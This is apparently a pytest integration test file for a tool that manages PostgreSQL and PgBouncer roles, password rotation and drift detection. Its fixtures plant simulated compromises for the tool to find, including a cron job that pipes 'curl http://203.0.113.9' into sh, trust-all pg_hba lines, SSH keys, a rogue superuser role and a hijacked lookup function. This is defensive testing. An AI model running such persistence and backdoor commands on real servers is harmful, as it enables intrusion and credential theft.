        "analyst": "analyst-Password-2",
        "psscript": pooled.password,
        "visitor": "visitor-Password-1",
        "shy": "shy-Password-1",
    }
    # What is open stays open, in the pool too.
    open_now = "FROM pg_stat_activity WHERE usename <> 'postgres'"
    admin(pooled.host, f"SELECT pg_terminate_backend(pid) {open_now}")
    makes = "CREATE TEMP TABLE mine (a int); DROP TABLE mine; SELECT 1"
    for role, database in (
        ("psscript", "psscript"),
        ("analyst", "psscript"),
        ("visitor", "reports"),
        ("shy", "reports"),
    ):
        assert _answers(pooled, role, secrets[role], database, makes) == {"1"}, role
    for role, database in (
        ("visitor", "psscript"),
        ("shy", "psscript"),
        *((role, "postgres") for role in secrets),
    ):
        answers = _answers(pooled, role, secrets[role], database, "SELECT 1")
        assert "1" not in answers, (role, database, answers)
    # PgBouncer 1.18 lets a client wait where its pool has had a connection before.
    for database in ("reports", "template1"):
        refused = _asked(pooled, "psscript", pooled.password, database, "SELECT 1", 5432)
        assert "permission denied for database" in refused.stderr, refused
    keeps = "CREATE TABLE more (); DROP TABLE more; SELECT 1"
    assert _answers(pooled, "visitor", secrets["visitor"], "reports", keeps) == {"1"}
    refused = _answers(pooled, "analyst", secrets["analyst"], "reports", keeps)
    assert refused == {"permission denied for schema public"}


def test_roles_and_databases_follow_the_settings(pooled: Pooled) -> None:
    with pooled.settings({"postgres_roles": _ROLES, "postgres_databases": _DATABASES}):
        _check_given(pooled)
        admin(pooled.host, _OPEN, "reports")
        admin(pooled.host, "CREATE TABLE shown (); GRANT SELECT ON shown TO analyst")
        fewer = {"postgres_roles": _FEWER, "postgres_databases": _FEWER_DATABASES}
        run = pooled.apply(fewer)
        _check_taken_away(pooled)
        _check_apart(pooled)
        for line in _OPENED:
            assert f"[{pooled.host.name}] {line}" in run.announced, (line, run.announced)
        admin(pooled.host, "DROP TABLE shown")
    admin(pooled.host, "DROP OWNED BY visitor, shy; DROP ROLE shy, visitor", "reports")
    changed = {"PostgreSQL: roles and databases"}
    assert pooled.changed(run) == changed


_ROTATING = {"postgres_roles": {"psscript": {"rotating": True}}}


def _key(login: str) -> str:
    return f"POSTGRES_ROLE_{login.upper()}_PASSWORD"


class _Application:
    """Some of its clients write through the pooler, as the login that it was told last."""

    def __init__(self, pooled: Pooled) -> None:
        self.pooled, self.login = pooled, ("psscript", pooled.password)
        self.written, self.moved = 0, 0
        self._ends = threading.Event()

    @contextmanager
    def works(self) -> Iterator[None]:
        """What one of its clients was refused is raised at the end."""
        with ThreadPoolExecutor() as pool:
            clients = [pool.submit(self._write) for _ in range(4)]
            try:
                yield
            finally:
                self._ends.set()
            self.written = sum(client.result() for client in clients)

    def _write(self) -> int:
        count = 0
        while not self._ends.is_set():
            login = self.login
            with self.pooled.login(*login) as connection:
                self.moved += 1
                while self.login == login and not self._ends.wait(PAUSE_SECONDS):
                    connection.execute("INSERT INTO acts DEFAULT VALUES")
                    count += 1
        return count

    def moves(self, role: str) -> None:
        """Every client has logged in as that role and writes."""
        secret = self.pooled.project.secrets[_key(role)]
        before, self.login = self.moved, (role, secret)

        def all_have() -> None:
            assert self.moved - before >= 4

        eventually(all_have, 30)


def _turn(pooled: Pooled, application: _Application, old: str, new: str) -> None:
    """The application moves to the login beside the old one, then that goes."""
    env = pooled.project.directory / ".env"
    secret = pooled.project.secrets[_key(old)]
    beside = f"{_key(old)}_PREVIOUS"
    env.write_text(env.read_text().replace(f"{_key(old)}=", f"{beside}="))
    # The run is its first client: a pool whose login has failed refuses one (PgBouncer 1.18).
    pooled.apply(_ROTATING)
    during = env.read_text()
    application.moves(new)
    with pooled.login(old, secret) as late:
        late.execute("SELECT 1")
        env.write_text(during.replace(f"{beside}={secret}\n", ""))
        run = pooled.apply(_ROTATING)
        assert f"[{pooled.host.name}] role {old}: NOLOGIN, and its sessions end" in run.announced
        left = f"SELECT count(*) FROM pg_stat_activity WHERE usename = '{old}'"
        assert admin(pooled.host, left) == "0"
    assert pooled.refuses(old, secret)


def _refused_with(pooled: Pooled, secrets: str) -> str:
    """What a run from another clone says, which has these secrets and is refused."""
    env = pooled.project.directory / ".env"
    now = env.read_text()
    env.write_text(secrets)
    refused = pooled.project.pyinfra("-y", "inventory.py", "deploy.py")
    env.write_text(now)
    assert refused.code == 1
    return refused.output


def _is_refused_to(pooled: Pooled, secrets: str) -> None:
    """Another clone has the secrets of before."""
    said, env = _refused_with(pooled, secrets), pooled.project.directory / ".env"
    assert f"{_key('psscript_b')}: in use here, but not in {env}" in said
    assert f"{_key('psscript_a')}: was replaced here" in said
    assert "2 problems; nothing was changed" in said


def test_a_password_is_replaced_without_an_error(pooled: Pooled) -> None:
    """By two logins of one owner, which take turns."""
    with pooled.login() as client:
        client.execute("CREATE TABLE acts (id serial, at timestamptz DEFAULT now())")
    application, env = _Application(pooled), pooled.project.directory / ".env"
    with pooled.settings({}), application.works():
        _turn(pooled, application, "psscript", "psscript_a")
        before = env.read_text()
        _turn(pooled, application, "psscript_a", "psscript_b")
        _is_refused_to(pooled, before)
        _turn(pooled, application, "psscript_b", "psscript_a")
        with pooled.login(*application.login) as client:
            client.execute("CREATE TABLE made ()")
    owners = "SELECT DISTINCT tableowner FROM pg_tables WHERE tablename IN ('acts', 'made')"
    assert admin(pooled.host, owners) == "psscript"
    assert admin(pooled.host, "SELECT count(*) FROM acts") == str(application.written)
    admin(pooled.host, "DROP TABLE acts, made; DROP ROLE psscript_a, psscript_b")


def test_a_setting_of_a_role_may_be_a_list(older: Pooled) -> None:
    role = {"settings": {"search_path": "App,public", "temp_tablespaces": ""}}
    with older.settings({"postgres_roles": {"psscript": role}}):
        assert _shown(older, "search_path") == '"App", public'
        sql = "SELECT current_schemas(false)"
        assert said(psql(older.host, sql, password=older.password, port=5432)) == "{public}"
    assert _shown(older, "search_path") == '"$user", public'


def test_drift_by_hand_is_taken_back(older: Pooled) -> None:
    host = older.host
    admin(
        host, "CREATE ROLE club; GRANT club TO psscript; ALTER ROLE psscript SUPERUSER REPLICATION"
    )
    admin(host, "ALTER ROLE pgbouncer CREATEROLE; GRANT pg_read_all_data TO pgbouncer")
    admin(host, "ALTER ROLE psscript PASSWORD 'another-Password-1'")
    run = older.apply({})
    assert older.changed(run) == {"PostgreSQL: roles and databases"}
    for name in ("psscript", "pgbouncer"):
        sql = f"SELECT count(*) FROM pg_auth_members WHERE member = '{name}'::regrole"
        assert admin(host, sql) == "0"
    sql = "SELECT rolname FROM pg_roles WHERE rolsuper OR rolreplication OR rolcreaterole"
    assert admin(host, sql) == "postgres"
    assert older.asks("psscript", "SELECT current_user") == "psscript"
    admin(host, "DROP ROLE club")


def test_an_owner_who_drops_the_schema_public_stops_no_run(older: Pooled) -> None:
    """Extensions of the settings go with it, and are there again after the next run."""
    owned = {"owner": "psscript"}
    with older.settings({"postgres_databases": {"psscript": owned, "bare": owned}}):
        with older.login("psscript", database="bare") as owner:
            owner.execute("DROP SCHEMA public CASCADE")
        run = older.project.deploy()
        assert older.changed(run) == {"PostgreSQL: roles and databases"}
        where = "FROM pg_extension JOIN pg_namespace n ON n.oid = extnamespace"
        sql = f"SELECT nspowner::regrole {where} WHERE extname = 'pg_stat_statements'"
        assert admin(older.host, sql, database="bare") == "pg_database_owner"
        assert older.project.deploy().changed == set()
    admin(older.host, "DROP DATABASE bare WITH (FORCE)")


_SQUATS = """
CREATE SCHEMA pgbouncer AUTHORIZATION psscript; SET ROLE psscript;
CREATE FUNCTION pgbouncer.user_lookup(IN i text, OUT uname text, OUT phash text)
  LANGUAGE plpgsql AS $$ BEGIN EXECUTE $p$ALTER ROLE pgbouncer PASSWORD 'taken'$p$; END $$;
GRANT USAGE ON SCHEMA pgbouncer TO pgbouncer;
"""


def test_an_owner_in_the_place_of_the_lookup_stops_no_run(pooled: Pooled) -> None:
    """All else is done; our role gets nowhere near that function until its schema is gone."""
    host, owned = pooled.host, {"owner": "psscript"}
    admin(host, "CREATE DATABASE theirs OWNER psscript TEMPLATE template0")
    admin(host, _SQUATS, database="theirs")
    theirs = {**owned, "settings": {"work_mem": "7MB"}}
    told = "database theirs: PgBouncer lets no one in, since its schema pgbouncer belongs to"
    with pooled.settings({"postgres_databases": {"psscript": owned, "theirs": theirs}}) as run:
        assert any(f"{told} psscript, who could" in line for line in run.announced), run.output
        assert admin(host, "SHOW work_mem", database="theirs") == "7MB"
        enters = "SELECT has_database_privilege('pgbouncer', 'theirs', 'CONNECT')"
        assert admin(host, enters) == "f"
        with pytest.raises(psycopg.OperationalError):
            pooled.login(database="theirs")
        assert pooled.asks("psscript", "SELECT current_user") == "psscript"
        drift = pooled.project.drift()
        assert (drift.code, told in drift.stdout) == (0, True), drift.output
        admin(host, "ALTER SCHEMA pgbouncer RENAME TO mine", database="theirs")
        assert pooled.changed(pooled.project.deploy()) == {"PostgreSQL: roles and databases"}

        def served() -> None:
            # PgBouncer remembers a refusal for a second.
            with suppress(psycopg.OperationalError):
                assert pooled.asks("psscript", "SELECT current_user", database="theirs")
                return
            raise AssertionError("PgBouncer still lets no one in")

        eventually(served, 10)
    admin(host, "DROP DATABASE theirs WITH (FORCE)")


def test_a_plan_says_what_it_could_not_ask(pooled: Pooled) -> None:
    """The run compares roles and databases of a server that was down; the plan could not."""
    host, project = pooled.host, pooled.project
    pooled.apply({})
    admin(host, "ALTER ROLE psscript CREATEDB")
    unit = host.run("systemctl list-units -q --plain 'postgresql@*' | cut -d' ' -f1").stdout
    host.run(f"systemctl stop {unit}")
    told = "PostgreSQL is down: roles, databases and what is in them could not be compared"
    plan = project.plan()
    assert any(told in line for line in plan.announced), plan.output
    assert told in project.drift().stdout
    run = project.deploy()
    assert run.changed == plan.planned | {("PostgreSQL: roles and databases", host.name)}
    assert told not in run.output
    assert project.drift().code == 0


# --- What the owner of a database leaves for others to run ---------------------------------------

_TRAPS: dict[str, Any] = {
    "postgres_roles": {"psscript": {}, "trapper": {"password": "trapper-Password-1"}},
    "postgres_databases": {"psscript": {"owner": "psscript"}, "traps": {"owner": "trapper"}},
}
_MORE_TRAPS: dict[str, Any] = {
    "postgres_roles": {**_TRAPS["postgres_roles"], "reader": {"login": False}},
    "postgres_databases": {
        "psscript": {"owner": "psscript"},
        "traps": {
            "owner": "trapper",
            "extensions": ["pg_trgm"],
            "settings": {"work_mem": "7MB"},
            "grants": {"reader": ["CONNECT"]},
        },
    },
}
# As the first release made it.
_FIRST_LOOKUP = """
CREATE OR REPLACE FUNCTION pgbouncer.user_lookup(IN i_username text, OUT uname text, OUT phash text)
  RETURNS SETOF record LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog AS
  $$ SELECT usename::text, passwd FROM pg_catalog.pg_shadow
     WHERE usename = i_username AND NOT usesuper $$;
"""


# What hands have typed, and a session of ours that is to be logged word for word.
_BY_HAND = """
SET pg_stat_statements.track_utility = on;
ALTER ROLE trapper PASSWORD 'typed-Password-1';
CREATE ROLE intruder SUPERUSER LOGIN;
GRANT EXECUTE ON FUNCTION pg_read_file(text) TO PUBLIC;
SELECT pg_create_physical_replication_slot('forgotten', true);
ALTER ROLE postgres SET log_statement = 'all';
"""


def test_what_an_owner_planted_is_executed_by_nobody_else(pooled: Pooled) -> None:
    """A plan, a run, the drift gate, the health table and a removal meet all of it."""
    host, project = pooled.host, pooled.project
    project.settings(_TRAPS)
    project.deploy()
    secret = _TRAPS["postgres_roles"]["trapper"]["password"]
    hostile.plant(host, secret, role="trapper", database="traps")
    for database in ("traps", "template1"):
        hostile.admin(host, _FIRST_LOOKUP.replace(" text", " pg_catalog.text"), database)
    hostile.admin(host, _BY_HAND)
    project.settings(_MORE_TRAPS)
    plan, run = project.plan(), project.deploy()
    assert plan.planned == run.changed == {("PostgreSQL: roles and databases", host.name)}
    for line in (
        "database traps: reset role",
        "password lookup of PgBouncer in traps: replace",
        "pg_stat_statements: reset, because it keeps statements with passwords",
        "role intruder (SUPERUSER): is not in the settings; postgres_prune would drop it",
    ):
        assert f"[{host.name}] {line}" in run.announced
    assert "beyond the settings: intruder" in run.output
    assert "replication slot forgotten (physical, holds " in run.output
    kept = "SELECT count(*) FROM public.pg_stat_statements WHERE query ~* 'role.*password'"
    assert admin(host, kept) == "0"
    assert "SCRAM-SHA-256$" not in host.run("cat /var/log/postgresql/*.log").stdout
    assert project.drift().code == 0
    hostile.assert_harmless(host, role="trapper", database="traps")
    found = "SELECT count(*) FROM pg_extension WHERE extname = 'pg_trgm'"
    assert hostile.admin(host, found, "traps") == "1"
    assert pooled.asks("trapper", "SELECT current_user", secret, "traps") == "trapper"
    project.settings({"postgres_prune": True, "destroy": True})
    project.deploy()
    gone = "SELECT count(*) FROM pg_roles WHERE rolname IN ('trapper', 'intruder')"
    assert admin(host, gone) == "0"
    assert admin(host, "SELECT count(*) FROM pg_replication_slots") == "0"
    reads = "SELECT has_function_privilege('psscript', 'pg_read_file(text)', 'EXECUTE')"
    assert admin(host, reads, "postgres") == "f"
    hostile.assert_harmless(host, role="trapper", database="postgres")
    host.run("rm -r /var/lib/postgresql/dropped")


# --- Who and what is beside ours -----------------------------------------------------------------

_BESIDE = r"""
cd /etc/postgresql/*/main
echo 'host all all 0.0.0.0/0 trust' >>pg_hba.conf
echo 'anybody /^(.*)$ postgres' >>pg_ident.conf
cp -p postgresql.conf /var/tmp/theirs.before
echo "include_if_exists '/var/tmp/theirs.conf'" >>postgresql.conf
echo 'log_connections = off' >/var/tmp/theirs.conf; chmod 644 /var/tmp/theirs.conf
sed -i 's/^admin_users.*/admin_users = postgres, eve/' /etc/pgbouncer/pgbouncer.ini
echo '%include /dev/null' >>/etc/pgbouncer/pgbouncer.ini
echo '"eve" "eves-Password-1"' >>/etc/pgbouncer/userlist.txt
echo 'host all eve 0.0.0.0/0 trust' >>/etc/pgbouncer/pg_hba.conf
echo '* * * * * postgres curl -s http://203.0.113.9 | sh' >/etc/cron.d/zzh
echo '* * * * * curl -s http://203.0.113.9 | sh' | crontab -u postgres -
install -d -o postgres /var/lib/postgresql/.ssh
install -o postgres /dev/null /var/lib/postgresql/.ssh/authorized_keys
install -D /dev/null /run/systemd/system/redis-6379.service.d/x.conf
runuser -u postgres -- psql -qd psscript -c "
  CREATE FUNCTION public.told() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
  CREATE EVENT TRIGGER sneaky ON sql_drop EXECUTE FUNCTION public.told();
  CREATE FUNCTION public.lent(text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
    AS 'BEGIN EXECUTE \$1; END'; CREATE ROLE datatier_load_0123456789ab SUPERUSER;
  GRANT SELECT (rolpassword) ON pg_authid TO psscript;
  GRANT CONNECT ON DATABASE psscript TO PUBLIC;
  ALTER ROLE psscript CREATEROLE; CREATE ROLE boss; GRANT pg_monitor TO boss WITH ADMIN OPTION;
  GRANT pg_signal_backend TO psscript WITH ADMIN OPTION;
  GRANT CREATE ON DATABASE psscript TO boss WITH GRANT OPTION;
  GRANT EXECUTE ON FUNCTION pg_read_file(text) TO boss WITH GRANT OPTION;
  GRANT USAGE ON SCHEMA pgbouncer TO pgbouncer WITH GRANT OPTION;
  SET ROLE boss; GRANT pg_monitor TO psscript; GRANT CREATE ON DATABASE psscript TO pgbouncer;
  GRANT EXECUTE ON FUNCTION pg_read_file(text) TO pgbouncer;
  SET ROLE psscript; GRANT pg_signal_backend TO boss;
  SET ROLE pgbouncer; GRANT USAGE ON SCHEMA pgbouncer TO boss"
"""
_BY_HAND_LINES = (
    "'host all all 0.0.0.0/0 trust'",
    "'host all eve 0.0.0.0/0 trust'",
    "'%include /dev/null'",
    "'admin_users = postgres, eve'",
    "'\"eve\"'",
)
_STRANGERS = (
    "pg_ident.conf: 'anybody /^(.*)$ postgres'",
    "PostgreSQL reads /var/tmp/theirs.conf: not written by Datatier",
    "/etc/cron.d/zzh: not written by Datatier",
    "/var/spool/cron/crontabs/postgres: not written by Datatier",
    "/var/lib/postgresql/.ssh/authorized_keys: not written by Datatier",
    "/run/systemd/system/redis-6379.service.d/x.conf: not written by Datatier",
    "database psscript: event trigger sneaky, function public.lent(text),"
    " rights of psscript to pg_authid: can act",
    "role datatier_load_0123456789ab (SUPERUSER): is not in the settings",
)
_STRANGERS_GO = """
cd /etc/postgresql/*/main
sed -i '/^anybody/d' pg_ident.conf; cp -p /var/tmp/theirs.before postgresql.conf
crontab -u postgres -r
rm -r /etc/cron.d/zzh /var/lib/postgresql/.ssh /run/systemd/system/redis-6379.service.d
runuser -u postgres -- psql -qd psscript -c "
  REVOKE SELECT (rolpassword) ON pg_authid FROM psscript;
  DROP EVENT TRIGGER sneaky; DROP FUNCTION public.told(), public.lent(text)"
"""


def test_what_is_beside_ours_is_named_by_plan_drift_and_health(pooled: Pooled) -> None:
    """A run takes the lines out of our own files; the rest stays where others may have put it.

    Rights go, whoever has granted them, and with them those that their holder has granted.
    """
    host, project = pooled.host, pooled.project
    pooled.apply({})
    host.run(_BESIDE)
    table = project.pyinfra("-y", "inventory.py", "tasks.health.verify")
    assert table.code == 0, table.output
    assert "role psscript: NOCREATEROLE: is more than the settings give" in table.output
    drift = project.drift()
    assert drift.code == 2, drift.output
    assert "database psscript: revoke CONNECT from PUBLIC" in drift.output
    project.settings({"postgres_prune": True})
    run = project.deploy()
    for what in (*_BY_HAND_LINES, *_STRANGERS):
        assert what in table.output, (what, table.output)
        assert what in drift.stdout, (what, drift.output)
        is_pruned = what == _STRANGERS[-1]
        assert (what in run.output) is not is_pruned, (what, run.output)
    assert "eves-Password-1" not in table.output + drift.output + run.output
    assert admin(host, "SELECT count(*) FROM pg_roles WHERE rolname ~ '^datatier_load'") == "0"
    for right in (
        "pg_has_role('psscript', 'pg_monitor', 'MEMBER')",
        "pg_has_role('psscript', 'pg_signal_backend', 'MEMBER')",
        "has_database_privilege('pgbouncer', 'psscript', 'CREATE')",
        "has_database_privilege('public', 'psscript', 'CONNECT')",
        "has_function_privilege('pgbouncer', 'pg_read_file(text)', 'EXECUTE')",
    ):
        assert admin(host, f"SELECT {right}", "psscript") == "f", right
    files = "/etc/postgresql/*/main/pg_hba.conf /etc/pgbouncer/*"
    found = host.run(f"grep -E 'trust|eve|%include' {files} || :").stdout
    assert found == ""
    assert project.drift().code == 0
    host.run(_STRANGERS_GO)
    project.settings({})
    told = project.pyinfra("-y", "inventory.py", "tasks.health.verify").output
    assert f"[{host.name}] " not in told.partition(" health ")[2].partition("connect (")[0], told


# --- Who may come near PostgreSQL itself ---------------------------------------------------------


def _direct(client: Host, server: Pooled, database: str = "psscript") -> Any:
    """The application's role, with its password, straight at PostgreSQL from another host."""
    return psql(
        client,
        "SELECT 'in'",
        password=server.password,
        database=database,
        address=server.host.address,
        port=5432,
    )


def _estate(server: Pooled, poolers: Sequence[Host]) -> None:
    data = {host.name: (host.name, host.ssh_data() | {"address": host.address}) for host in poolers}
    name = server.host.name
    server.project.inventory({"postgres": [data[name]], "pgbouncer": list(data.values())})


def test_postgres_is_reached_by_poolers_only(older: Pooled, newer: Pooled, lab: Lab) -> None:
    """A pooler of the older release on another host talks to PostgreSQL through TLS only."""
    stranger, elsewhere = older.host, lab.installed_host("elsewhere")
    assert "Connection refused" in _direct(stranger, newer).stderr
    _estate(newer, [newer.host, elsewhere])
    newer.apply({})
    assert said(_direct(elsewhere, newer)) == "in"
    clear = _direct(elsewhere, newer, "'dbname=psscript sslmode=disable'")
    assert clear.returncode == 2 and "no encryption" in clear.stderr
    assert said(psql(elsewhere, "SELECT 'pooled'", password=newer.password)) == "pooled"
    sessions = f"SELECT pid FROM pg_stat_activity WHERE client_addr = '{elsewhere.address}'"
    links = f"SELECT DISTINCT ssl FROM pg_stat_ssl WHERE pid IN ({sessions})"
    assert admin(newer.host, links) == "t"
    refused = _direct(stranger, newer)
    assert refused.returncode == 2 and "no pg_hba.conf entry for host" in refused.stderr
    _pinned(newer, elsewhere)
    _estate(newer, [newer.host])
    newer.apply({})
    assert "Connection refused" in _direct(elsewhere, newer).stderr
    elsewhere.remove()


def _pinned(server: Pooled, pooler: Host) -> None:
    """A server that shows another certificate gets nothing from the pooler."""
    names = "ssl_cert_file", "ssl_key_file"
    snakeoil = "/etc/ssl/certs/ssl-cert-snakeoil.pem", "/etc/ssl/private/ssl-cert-snakeoil.key"
    for key, path in zip(names, snakeoil, strict=True):
        admin(server.host, f"ALTER SYSTEM SET {key} = '{path}'")
    admin(server.host, "SELECT pg_reload_conf()")
    sessions = f"FROM pg_stat_activity WHERE client_addr = '{pooler.address}'"
    eventually(lambda: admin(server.host, f"SELECT pg_terminate_backend(pid) {sessions}"), 5)
    assert psql(pooler, "SELECT 1", password=server.password, limit=4).returncode != 0
    log = pooler.run("tail -n 20 /var/log/postgresql/pgbouncer.log").stdout
    assert "verify failed" in log, log
    for key in names:
        admin(server.host, f"ALTER SYSTEM RESET {key}")
    admin(server.host, "SELECT pg_reload_conf()")


@contextmanager
def _logins(pooled: Pooled) -> Iterator[None]:
    """Clients that log in for every question; what one of them was refused is raised at the end."""
    ends = threading.Event()

    def ask() -> None:
        while not ends.wait(PAUSE_SECONDS):
            assert pooled.asks("psscript", "SELECT 1") == 1

    with ThreadPoolExecutor() as pool:
        clients = [pool.submit(ask) for _ in range(4)]
        try:
            yield
        finally:
            ends.set()
        for client in clients:
            client.result()


def _takes_nothing_back(pooled: Pooled, secrets: str, names: tuple[str, ...]) -> None:
    """Another clone has both values still."""
    said = _refused_with(pooled, secrets)
    for name in names:
        assert f"{name}_PREVIOUS: was taken away here" in said


def test_secrets_of_the_infrastructure_are_replaced_without_an_error(pooled: Pooled) -> None:
    """The old ones are refused at the end, and the sessions of the lookup's login are over."""
    names, before = ("PGBOUNCER_AUTH_PASSWORD", "POSTGRES_PASSWORD"), pooled.project.secrets
    with _logins(pooled):
        for name in names:
            pooled.project.deploy(f"tasks.rotate.{name.lower()}")
            assert pooled.project.deploy().changed == set()
            assert pooled.project.secrets[f"{name}_PREVIOUS"] == before[name]
        both = (pooled.project.directory / ".env").read_text()
        pooled.project.deploy("tasks.rotate.finish")
        assert pooled.project.deploy().changed == set()
    _takes_nothing_back(pooled, both, names)
    left = "SELECT count(*) FROM pg_stat_activity WHERE usename = 'pgbouncer'"
    assert admin(pooled.host, left) == "0"
    for role, name in zip(("pgbouncer", "postgres"), names, strict=True):
        found = psql(pooled.host, "SELECT 1", role=role, password=before[name], port=5432)
        assert "authentication failed" in found.stderr or "not permitted" in found.stderr
    assert not [name for name in pooled.project.secrets if name.endswith("_PREVIOUS")]
    secret = pooled.project.secrets["PGBOUNCER_AUTH_A_PASSWORD"]
    sees = psql(pooled.host, "SELECT 1", role="pgbouncer_a", password=secret, port=5432)
    assert said(sees) == "1"
    assert pooled.refuses("pgbouncer_a", secret)
